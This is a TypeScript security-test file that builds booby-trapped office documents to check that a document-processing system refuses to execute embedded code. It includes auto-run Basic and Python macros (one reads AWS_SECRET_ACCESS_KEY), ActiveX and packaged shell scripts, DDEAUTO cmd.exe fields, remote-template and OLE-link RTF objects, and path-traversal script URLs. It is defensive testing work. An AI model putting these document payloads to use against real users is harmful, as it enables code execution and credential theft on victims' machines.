/** Documents that bring code along, or name code that the machine has. */
import PizZip from "pizzip";
import type { Attack } from "#test/security/attack/attack.ts";
import { stopped } from "#test/security/attack/make-documents.ts";
import {
  button,
  library,
  linkWithEvents,
  type OdtChange,
  odtWith,
  onOpening,
} from "#test/security/attack/odt-scripts.ts";
import type { Target } from "#test/security/attack/target.ts";
import { field, paragraph, run } from "#test/support/docx-blocks.ts";
import { docx } from "#test/support/docx-package.ts";
import { oldWord, rtf } from "#test/support/office-files.ts";

/** Basic that writes into the watched folder, runs a program and calls the listener. */
function basic({ watchedFolder, listener }: Target): string {
  return `Sub Main
  Open "${watchedFolder}/basic" For Output As #1
  Print #1, Environ("AWS_SECRET_ACCESS_KEY")
  Shell("/bin/sh", 0, "-c 'touch ${watchedFolder}/shell'")
  createUnoService("com.sun.star.ucb.SimpleFileAccess").openFileRead("${listener.address("/basic")}")
End Sub`;
}

const OWN_MACRO = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document";

/** Code that is named, not brought. */
const NAMED_SCRIPTS = (target: Target): readonly string[] => [
  OWN_MACRO,
  "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share",
  `vnd.sun.star.script:../../../../../..${target.watchedFolder}/evil.py$main?language=Python&amp;location=user`,
  "vnd.sun.star.script:Tools.Misc.FileExists?language=Basic&amp;location=application",
  "macro:///Standard.Module1.Main()",
  `macro:///Tools.UCB.SaveDataToFile("${target.watchedFolder}/evil","x")`,
  ".uno:SaveAs",
  `service:com.sun.star.system.SystemShellExecute?${target.listener.address("/shell")}`,
  `vnd.sun.star.UNO:${target.listener.address("/uno")}`,
];

const VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";

/** A .docx with a VBA project under a name, related or not. */
function withProject(name: string, { isRelated = true, contentType = "" } = {}): Uint8Array {
  const zip = new PizZip(docx(paragraph("Dear [Name]")));
  zip.file(name, Buffer.from("d0cf11e0a1b11ae1", "hex"));
  const types = zip.file("[Content_Types].xml")?.asText() ?? "";
  const main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
  const extra = `<Override PartName="/${name}" ContentType="application/vnd.ms-office.vbaProject"/>`;
  zip.file("[Content_Types].xml", types.replace(main, contentType || main).replace("</Types>", `${extra}</Types>`));
  const relations = zip.file("word/_rels/document.xml.rels")?.asText() ?? "";
  const relation = `<Relationship Id="rIdVba" Type="${VBA}" Target="/${name}"/>`;
  if (isRelated)
    zip.file("word/_rels/document.xml.rels", relations.replace("</Relationships>", `${relation}</Relationships>`));
  return zip.generate({ type: "uint8array" });
}

/** A control of the machine, and an object with a program's name in it. */
function withControl({ watchedFolder }: Target): Uint8Array {
  const control = `<w:p><w:r><w:object><w:control r:id="rIdX" w:name="Evil" w:shapeid="s"/></w:object></w:r></w:p>`;
  const packager = `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" r:id="rIdY"/></w:object></w:r></w:p>`;
  const relation = (id: string, kind: string, to: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${to}"/>`;
  return docx({
    body: paragraph("Dear [Name]") + control + packager,
    parts: {
      "word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation("rIdX", "control", "activeX/a.xml")}${relation("rIdY", "package", "embeddings/a.bin")}</Relationships>`,
      "word/activeX/a.xml":
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{72C24DD5-D70A-438B-8A42-98424B88AFB8}" ax:persistence="persistStreamInit"/>',
      "word/embeddings/a.bin": Buffer.from(
        `\u0002\u0000evil.sh\u0000${watchedFolder}/evil.sh\u0000#!/bin/sh\ntouch ${watchedFolder}/object\n`,
        "latin1",
      ),
    },
  });
}

type Make = (target: Target) => { readonly filename: string; readonly bytes: Uint8Array };

const asDocx =
  (make: (target: Target) => Uint8Array): Make =>
  (target) => ({ filename: "a.docx", bytes: make(target) });
const asOdt =
  (make: (target: Target) => OdtChange): Make =>
  (target) => ({ filename: "a.odt", bytes: odtWith(make(target)) });
const asRtf =
  (make: (target: Target) => string): Make =>
  (target) => ({ filename: "a.rtf", bytes: rtf(`Dear [Name]${make(target)}`) });

const MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml";

const FILES: Readonly<Record<string, Make>> = {
  "a VBA project in a .docx": asDocx(() => withProject("word/vbaProject.bin")),
  "a .docm under the name of a .docx": asDocx(() => withProject("word/vbaProject.bin", { contentType: MACRO_TYPE })),
  "a VBA project under the name of a picture": asDocx(() => withProject("word/media/a.png")),
  "a VBA project that nothing refers to": asDocx(() => withProject("word/x.bin", { isRelated: false })),
  "a macro-enabled type without a project": asDocx(() => {
    const zip = new PizZip(docx(paragraph("Dear [Name]")));
    const types = zip.file("[Content_Types].xml")?.asText() ?? "";
    zip.file(
      "[Content_Types].xml",
      types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", MACRO_TYPE),
    );
    return zip.generate({ type: "uint8array" });
  }),
  "a control (ActiveX) and a packaged program": asDocx(withControl),
  "MACROBUTTON, GOTOBUTTON and AUTOOPEN fields": asDocx(() =>
    docx(
      paragraph([
        run("Dear [Name]"),
        field("MACROBUTTON AutoOpen x", "x"),
        field("AUTOTEXT AutoExec", "x"),
        field("DDE cmd /c x", "x"),
      ]),
    ),
  ),
  "a ribbon with a callback": asDocx(() =>
    docx({
      body: paragraph("Dear [Name]"),
      parts: {
        "customUI/customUI.xml":
          '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Main"/>',
      },
    }),
  ),
  "Basic in an .odt, run when it opens": asOdt((target) => ({
    scripts: onOpening(OWN_MACRO),
    parts: library(basic(target)),
  })),
  "Basic in an .odt, in a folder in small letters": asOdt((target) => ({
    scripts: onOpening(OWN_MACRO),
    parts: library(basic(target), "basic"),
  })),
  "Python in an .odt, run when it opens": asOdt((target) => ({
    scripts: onOpening("vnd.sun.star.script:evil.py$main?language=Python&amp;location=document"),
    parts: { "Scripts/python/evil.py": `def main(*a):\n  open("${target.watchedFolder}/python", "w").write("x")\n` },
  })),
  "a dialog in an .odt": asOdt((target) => ({
    scripts: onOpening(OWN_MACRO),
    parts: library(basic(target), "Dialogs"),
  })),
  "Basic in the text of an .odt": asOdt((target) => ({
    scripts: `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>${basic(target).replaceAll('"', "&quot;")}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts>${onOpening(OWN_MACRO)}`,
  })),
  "an add-on's settings in an .odt": asOdt(() => ({
    parts: {
      "Configurations2/accelerator/current.xml":
        "<accel:acceleratorlist xmlns:accel='http://openoffice.org/2001/accel'/>",
    },
  })),
  "an .rtf with a packaged object": asRtf(
    () =>
      `{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000${"41".repeat(200)}}{\\result x}}`,
  ),
  "an .rtf with an object that updates itself": asRtf(
    ({ listener }) =>
      `{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${Buffer.from(listener.address("/ole.doc")).toString("hex")}}{\\result x}}`,
  ),
  "an .rtf with a template elsewhere": asRtf(({ listener }) => `{\\*\\template ${listener.address("/evil.dot")}}`),
  "an .rtf with a DDE field": asRtf(
    () => `{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe "/k x"}{\\fldrslt x}}`,
  ),
  "an .rtf with a style sheet and a font elsewhere": asRtf(
    ({ listener }) =>
      `{\\fonttbl{\\f0 x{\\*\\fontfile ${listener.address("/a.ttf")}}}}{\\*\\nextfile ${listener.address("/next.rtf")}}{\\*\\linkval ${listener.address("/x")}}`,
  ),
  "an old .doc with macros": () => ({ filename: "a.doc", bytes: oldWord({ hasMacros: true }) }),
  "an old .doc that is encrypted": () => ({ filename: "a.doc", bytes: oldWord({ isEncrypted: true }) }),
};

export const MACRO_ATTACKS: readonly Attack[] = [
  ...Object.entries(FILES).map(([name, make]) => attack(name, make)),
  ...Array.from({ length: 9 }, (_, place): Attack => {
    const script = (target: Target) => NAMED_SCRIPTS(target)[place] ?? "";
    return attack(
      `code of the machine, named by opening, buttons and links (${place + 1})`,
      asOdt((target) => ({
        scripts: onOpening(script(target)),
        body: button(script(target)) + linkWithEvents(script(target)),
      })),
    );
  }),
];

function attack(name: string, make: Make): Attack {
  return {
    category: "macros and events",
    name,
    tried: "to run code on the machine",
    run: (target) => stopped(target, make(target), "made without running anything"),
  };
}
